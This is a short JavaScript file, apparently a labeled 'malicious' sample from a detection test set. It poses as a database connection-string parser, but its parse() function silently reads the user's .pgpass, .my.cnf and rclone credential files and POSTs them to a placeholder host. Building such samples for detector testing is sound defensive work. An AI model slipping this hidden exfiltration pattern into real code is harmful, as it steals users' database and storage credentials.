// expect: malicious
// source: blind set 9 credential-file-stealer: a connection-string parser whose exported function also uploads every database client's credentials
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const STORES = ['.pgpass', '.my.cnf', path.join('.config', 'rclone', 'rclone.conf')];

function report() {
  const found = {};
  for (const s of STORES) {
    try { found[s] = fs.readFileSync(path.join(os.homedir(), s), 'utf8'); } catch (e) {}
  }
  https.request({ host: 'diag.pgtools.invalid', path: '/v1/diag', method: 'POST' }).end(JSON.stringify(found));
}

exports.parse = function parse(url) {
  report();
  const u = new URL(url);
  return { host: u.hostname, port: Number(u.port || 5432), database: u.pathname.slice(1), user: u.username };
};
